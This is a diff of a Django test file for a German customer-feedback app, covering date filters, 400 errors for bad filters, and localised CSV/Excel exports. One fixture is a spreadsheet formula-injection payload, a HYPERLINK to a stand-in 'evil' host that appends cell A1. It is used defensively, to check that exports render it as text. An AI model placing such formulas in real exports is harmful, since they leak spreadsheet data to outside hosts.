@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 from typing import Any
 
 import pandas as pd
 import pytest
 from django.test import Client
+from django.utils import timezone
 
 from feedback import services
 from feedback.models import Feedback, ImprovementAction
@@ -33,30 +35,78 @@ def test_the_list_shows_own_department_and_filters(
     assert "Fremde Abteilung" not in html
     html = client.get("/feedback/?kind=praise").content.decode()
     assert "Lob eigene Abteilung" in html and "Kasse eigene Abteilung" not in html
-    html = client.get("/feedback/?sentiment=negative&period=30").content.decode()
-    assert "Kasse eigene Abteilung" in html and "Lob eigene Abteilung" not in html
+    today = timezone.localdate()
+    html = client.get(f"/feedback/?sentiment=negative&date_from={today - dt.timedelta(days=29)}&date_to={today}")
+    assert "Kasse eigene Abteilung" in html.content.decode() and "Lob eigene Abteilung" not in html.content.decode()
+    html = client.get(f"/feedback/?touchpoint={store.pk}").content.decode()
+    assert "Kasse eigene Abteilung" in html
+    html = client.get(f"/feedback/?touchpoint_slug={store.slug}").content.decode()
+    assert "Kasse eigene Abteilung" in html
 
 
-def test_an_invalid_filter_shows_no_rows_and_no_500(client: Client, manager: Any, store: Touchpoint) -> None:
+def test_the_quick_periods_fill_date_from_and_date_to(client: Client, manager: Any, store: Touchpoint) -> None:
+    FeedbackFactory(touchpoint=store, text="Vor zwei Wochen", created_at=timezone.now() - dt.timedelta(days=14))
+    FeedbackFactory(touchpoint=store, text="Gestern", created_at=timezone.now() - dt.timedelta(days=1))
+    html = _login(client, manager).get("/feedback/?kind=criticism").content.decode()
+    today = timezone.localdate()
+    week = f"kind=criticism&amp;date_from={today - dt.timedelta(days=6)}&amp;date_to={today}"
+    assert f'href="?{week}"' in html and "letzte 7 Tage" in html and "letzte 90 Tage" in html
+    html = client.get(f"/feedback/?{week.replace('&amp;', '&')}").content.decode()
+    assert "Gestern" in html and "Vor zwei Wochen" not in html
+    assert 'aria-current="true">letzte 7 Tage' in html
+
+
+def test_an_invalid_filter_shows_its_error_and_no_rows(client: Client, manager: Any, store: Touchpoint) -> None:
     FeedbackFactory(touchpoint=store, text="Irgendwas")
     response = _login(client, manager).get("/feedback/?touchpoint=gibt-es-nicht&date_from=kein-datum")
-    assert response.status_code == 200
+    assert response.status_code == 400
     assert "Irgendwas" not in response.content.decode()
+    response = client.get("/feedback/?date_from=2026-03-02&date_to=2026-03-01")
+    assert response.status_code == 400 and "Das Enddatum liegt vor dem Startdatum." in response.content.decode()
 
 
-def test_csv_and_excel_export_follow_the_filters(client: Client, cx_admin: Any, store: Touchpoint) -> None:
-    FeedbackFactory(touchpoint=store, text="=HYPERLINK(\"http://evil\")", kind="criticism")
+def test_the_csv_export_is_german_excel_csv_and_follows_the_filters(
+    client: Client, cx_admin: Any, store: Touchpoint
+) -> None:
+    FeedbackFactory(touchpoint=store, text='=HYPERLINK("http://evil?"&A1,"klick")', kind="criticism",
+                    sentiment_score=-0.75, rating=2)
     FeedbackFactory(touchpoint=store, text="Schön hier", kind="praise", sentiment="positive")
     _login(client, cx_admin)
     response = client.get("/feedback/?kind=criticism&export=csv")
     assert response["Content-Type"].startswith("text/csv")
-    frame = pd.read_csv(io.StringIO(response.content.decode("utf-8-sig")), sep=";")
-    assert list(frame["kind"]) == ["criticism"]
-    assert frame["text"][0].startswith("'=")  # no formula injection
-    response = client.get("/feedback/?export=xlsx")
+    assert response.content.startswith("\ufeff".encode())
+    frame = pd.read_csv(io.BytesIO(response.content), sep=";", decimal=",", encoding="utf-8-sig")
+    assert list(frame["Art"]) == ["Kritik"]
+    assert list(frame["Kontaktpunkt"]) == [store.name]
+    assert frame["Stimmungswert"][0] == -0.75
+    assert frame["Bewertung (1–5)"][0] == 2
+    assert frame["Text"][0] == '\'=HYPERLINK("http://evil?"&A1,"klick")'  # shown as text, never a formula
+
+
+def test_the_excel_export_has_typed_cells_and_no_formulas(client: Client, cx_admin: Any, store: Touchpoint) -> None:
+    from openpyxl import load_workbook
+
+    FeedbackFactory(touchpoint=store, text="=1+2", kind="criticism", rating=1)
+    FeedbackFactory(touchpoint=store, text="@SUMME(A1)", kind="praise", sentiment="positive")
+    response = _login(client, cx_admin).get("/feedback/?export=xlsx")
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    text, kind = header.index("Text") + 1, header.index("Art") + 1
+    cells = [sheet.cell(row=row, column=text) for row in (2, 3)]
+    assert sorted(cell.value for cell in cells) == ["=1+2", "@SUMME(A1)"]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert sorted(sheet.cell(row=row, column=kind).value for row in (2, 3)) == ["Kritik", "Lob"]
+    assert isinstance(sheet.cell(row=2, column=header.index("eingegangen") + 1).value, dt.datetime)
     frame = pd.read_excel(io.BytesIO(response.content))
-    assert sorted(frame["kind"]) == ["criticism", "praise"]
-    assert {"touchpoint", "sentiment", "topics", "status"} <= set(frame.columns)
+    assert {"Kontaktpunkt", "Stimmung", "Themen", "Status"} <= set(frame.columns)
+
+
+def test_the_export_speaks_english_with_commas_and_dots(client: Client, cx_admin: Any, store: Touchpoint) -> None:
+    FeedbackFactory(touchpoint=store, text="Fine", kind="praise", sentiment="positive", sentiment_score=0.5)
+    response = _login(client, cx_admin).get("/feedback/?export=csv", HTTP_ACCEPT_LANGUAGE="en")
+    frame = pd.read_csv(io.BytesIO(response.content), encoding="utf-8-sig")
+    assert list(frame["Kind"]) == ["Praise"] and frame["Sentiment score"][0] == 0.5
 
 
 def test_staff_record_feedback_heard_at_the_counter(client: Client, agent: Any, store: Touchpoint) -> None:
@@ -175,13 +225,3 @@ def test_pages_speak_english(client: Client, manager: Any, store: Touchpoint) ->
     assert "Export CSV" in html and "Criticism" in html
     html = client.get("/feedback/improvements/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
     assert "Improvement actions" in html and "In progress".lower() in html.lower()
-
-
-def test_the_list_keeps_its_query_count(
-    client: Client, cx_admin: Any, store: Touchpoint, django_assert_max_num_queries: Any
-) -> None:
-    for _ in range(30):
-        FeedbackFactory(touchpoint=store)
-    _login(client, cx_admin)
-    with django_assert_max_num_queries(15):
-        assert client.get("/feedback/").status_code == 200
